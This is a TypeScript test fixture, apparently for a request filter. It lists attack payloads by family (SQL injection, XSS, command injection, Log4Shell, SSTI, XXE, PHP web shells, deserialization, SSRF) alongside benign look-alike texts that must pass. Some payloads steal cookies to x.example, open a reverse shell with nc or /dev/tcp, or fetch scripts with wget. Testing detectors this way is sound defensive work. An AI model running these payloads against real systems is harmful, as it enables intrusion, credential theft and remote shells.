/* eslint-disable no-template-curly-in-string -- expressions of other languages are what is tested */

/** Plain attacks by the families that a rule may name: written for this test, each complete in itself. */
export const RAW_ATTACKS: Record<string, string[]> = {
  sqli: [
    "x' or '1'='1",
    "nobody' or 1=1-- -",
    '1 or 7=7',
    '4) and (8814=8814',
    '12 union select null,null,version()',
    "-3' union all select name,secret from accounts-- -",
    "Bobby'); drop table pupils;--",
    "9'; insert into admins values ('me','me');--",
    "5'; update users set role='root' where name='me';--",
    "1' and sleep(7)-- -",
    '1 and (select * from (select(sleep(9)))q)',
    "3; waitfor delay '0:0:9'--",
    "2'; select pg_sleep(9)--",
    "8' and benchmark(5000000,md5(1))-- -",
    "6' and extractvalue(1,concat(0x7e,(select user())))-- -",
    "7' and updatexml(1,concat(0x7e,version()),1)-- -",
    "1' order by 9-- -",
    "1'; exec xp_cmdshell('dir');--",
    "1' and ascii(substr((select secret from accounts limit 1),1,1))>64-- -"
  ],
  nosqli: [
    '{"password":{"$ne":null}}',
    '{"user":{"$gt":""},"pass":{"$gt":""}}',
    'login[$regex]=.*',
    '{"$where":"this.secret.length > 3"}'
  ],
  xss: [
    '<script>alert(3)</script>',
    '"><script>fetch(\'//x.example/\'+document.cookie)</script>',
    '<img src=q onerror=alert(5)>',
    '<svg onload=alert`5`>',
    '<svg/onload=confirm(2)>',
    '<body onpageshow=eval(name)>',
    '<details open ontoggle=prompt(1)>',
    '<a href="javascript:alert(1)">x</a>',
    '<iframe src=javascript:alert(document.domain)>',
    '" autofocus onfocus="alert(1)',
    "';alert(4);//",
    '<object data=data:text/html;base64,PHNjcmlwdD4=>'
  ],
  cmdi: [
    '127.0.0.1; cat /etc/passwd',
    '127.0.0.1 && wget http://x.example/s.sh',
    'a.png|nc -e /bin/sh 192.0.2.4 4444',
    '$(cat /etc/passwd)',
    '$(whoami)',
    '`id`',
    '`wget http://x.example/s`',
    'x;ping -c 9 192.0.2.4',
    'x || sleep 9',
    'x;/bin/sh -c id',
    'x;uname -a',
    'x;cat${IFS}/etc/passwd',
    '() { :;}; /bin/bash -c id',
    'bash -i >& /dev/tcp/192.0.2.4/4444 0>&1'
  ],
  traversal: [
    '../../../etc/passwd',
    '..\\..\\..\\windows\\win.ini',
    '....//....//....//etc/shadow',
    '..%2f..%2f..%2fetc%2fpasswd',
    '..%252f..%252f..%252fetc%252fpasswd',
    '..%c0%af..%c0%afetc/passwd',
    '../../../../proc/self/environ'
  ],
  lfi: ['file:///etc/passwd', 'file:///c:/windows/win.ini'],
  log4shell: [
    '${jndi:ldap://x.example/a}',
    '${${lower:j}ndi:rmi://x.example/a}',
    '${${::-j}${::-n}${::-d}${::-i}:ldap://x.example/a}',
    '${j${env:NOPE:-n}di:dns://x.example}',
    '${jndi:${lower:l}dap://x.example/a}'
  ],
  ssti: [
    '{{7*7}}',
    "{{7*'7'}}",
    '{{config.__class__.__init__.__globals__}}',
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    '${T(java.lang.Runtime).getRuntime().exec("id")}',
    '<%= system("id") %>',
    '<#assign x="freemarker.template.utility.Execute"?new()>',
    "{{['id']|filter('system')}}"
  ],
  xxe: [
    '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hostname">]>',
    '<!ENTITY % c SYSTEM "http://x.example/c.dtd">',
    '<xi:include href="file:///etc/hostname" parse="text"/>'
  ],
  php: ['<?php system($_GET["c"]); ?>', '<?php eval(base64_decode("cGhwaW5mbygp")); ?>', '<?= shell_exec("id") ?>', 'eval($_POST["a"])'],
  rfi: ['php://filter/convert.base64-encode/resource=index.php'],
  deserial: [
    'O:8:"EvilUser":1:{s:4:"role";s:5:"admin";}',
    'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDR',
    'aced0005737200116a6176612e7574696c2e486173684d6170',
    '!!python/object/apply:os.system ["id"]',
    '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"x"}'
  ],
  java: ['%{(#a=@java.lang.Runtime@getRuntime())}', 'class.module.classLoader.resources.context.parent.pipeline.first.pattern=x'],
  ssrf: ['http://169.254.169.254/latest/meta-data/iam', 'gopher://127.0.0.1:6379/_FLUSHALL'],
  ldapi: ['*)(uid=*))(|(uid=*', 'admin)(|(password=*)'],
  crlf: ['%0d%0aSet-Cookie: session=mine', 'x%0d%0aLocation: http://x.example/'],
  proto: ['{"__proto__":{"admin":true}}'],
  ssi: ['<!--#exec cmd="id" -->'],
  xpathi: ["' or count(/*)=1 or '1"]
}

/** Texts that share words and signs with attacks and are none; not one of them may refuse a request. */
export const ORDINARY_TEXTS: string[] = [
  'The union selected a new board; or, if you ask 1 of 10 members, they would drop the table reservations.',
  'Please select from the menu: soup, salad or 2 = two courses. "Order by 5 pm" and it is free -- really.',
  'SELECT name, total FROM orders WHERE status = \'open\' AND total > 5 ORDER BY 1; DROP TABLE old_orders;',
  'We used `SELECT a FROM t UNION SELECT b FROM u` in the report, and sleep(5) in the test.',
  "INSERT INTO users (name) VALUES ('a'); UPDATE users SET name = 'b' WHERE id = 1 OR 1 = 1;",
  "it's 'this' or 'that' = the same; rock 'n' roll and 'n' stuff",
  'a && b || c; if (x == 1 && y == 1) { return x || y } // x or y = 1',
  '<p class="note">Hello <b>world</b>, <a href="https://example.org/?a=1&b=2">read on</a> <img src="a.png" alt="on load"></p>',
  '<button onclick="return confirm(\'Sure?\')">Delete</button> and <a href="javascript:void(0)">menu</a>',
  '<script src="https://cdn.example.org/app.js" async></script>\n<script>window.dataLayer = window.dataLayer || [];</script>',
  'export const Button = () => <button onClick={() => setOpen(true)}>open</button>',
  '# Install\n\n```sh\ncurl -fsSL https://example.org/install.sh | sh\ncd app && npm install && wget https://example.org/a.tgz\ncat /etc/os-release\n```',
  'Run `id` or `whoami`; then `cat file | grep x`. Use $(date) or `date` in scripts.',
  'while true; do echo "tick"; sleep 1; done; kubectl get pods | grep api',
  '{"command":["/bin/sh","-c","echo hello && sleep 3600"],"image":"nginx"}',
  'import { a } from "../../../lib/a.ts"\nimport b from \'../../b\'\nconst c = require("../../../../c")',
  'const url = `${base}/${id}?page=${page * 10}`; const day = 24 * 60 * 60',
  'Hello {{ user.name }}, {% if order.total > 10 %}thank you{% endif %} ${amount} #{id} <%= name %>',
  '<?xml version="1.0"?><!DOCTYPE html><note><to>x</to></note>',
  '<?php\nnamespace App;\nclass User { public $name; }\n',
  'query Q($id: ID!, $first: Int = 10) { user(id: $id) { ...F friends(first: $first) { edges { node { id } } } } } fragment F on User { name }',
  '.a > .b { color: red; background: url(../../img/a.png) } @media (max-width: 600px) { .a { display: none } }',
  '{"$schema":"https://json-schema.org/draft/2020-12/schema","$ref":"#/$defs/a","type":"object","$defs":{"a":{"type":"string"}}}',
  '2026-01-02T03:04:05Z ERROR [main] (App.java:12) GET /a?b=1 500 "Mozilla/5.0 (X11)" - at java.lang.Thread.run(Thread.java:748)',
  '!function(e,t){"object"==typeof exports?t(exports):t(e.x={})}(this,function(e){var n=e&&e.a||1;return n===1||n==1?e:(e=n,t)});',
  '{"filter":{"genre":{"$eq":"drama"},"year":{"$gte":2020}},"topK":10}',
  'For {x: 1} we compute f(x)(y) and (a|b)(c&d); the filter (&(objectClass=user)(cn=a*)) finds people.',
  'Set-Cookie and Location are headers.\r\nLocation: Berlin\r\nContact: me@example.org',
  'tel:+49 30 123456; mailto:a@example.org; gopher holes and dict files',
  'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=='
]
